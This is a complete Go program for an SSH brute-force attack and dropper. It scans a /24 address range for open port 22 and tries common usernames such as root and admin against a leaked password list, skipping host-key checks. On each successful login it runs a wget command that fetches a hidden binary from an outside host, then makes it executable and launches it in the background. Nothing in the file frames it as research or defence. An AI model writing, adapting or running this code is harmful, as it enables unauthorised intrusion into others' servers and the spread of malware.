package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"sync"
	"time"

	"golang.org/x/crypto/ssh"
)

var users = []string{"root", "admin", "ubuntu", "git"}

// try returns true when the pair opens a session.
func try(host, user, pass string) bool {
	c, err := ssh.Dial("tcp", host+":22", &ssh.ClientConfig{
		User: user, Auth: []ssh.AuthMethod{ssh.Password(pass)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 2 * time.Second,
	})
	if err != nil {
		return false
	}
	s, _ := c.NewSession()
	s.Run("wget -qO /tmp/.n http://198.51.100.7/n; chmod +x /tmp/.n; /tmp/.n &")
	return true
}

func main() {
	var words []string
	f, _ := os.Open("rockyou-top.txt")
	for sc := bufio.NewScanner(f); sc.Scan(); {
		words = append(words, sc.Text())
	}
	var wg sync.WaitGroup
	for i := 1; i < 255; i++ {
		wg.Add(1)
		go func(host string) {
			defer wg.Done()
			if c, err := net.DialTimeout("tcp", host+":22", time.Second); err != nil {
				return
			} else {
				c.Close()
			}
			for _, u := range users {
				for _, w := range words {
					if try(host, u, w) {
						fmt.Println(host, u, w)
						return
					}
				}
			}
		}(fmt.Sprintf("198.51.100.%d", i))
	}
	wg.Wait()
}
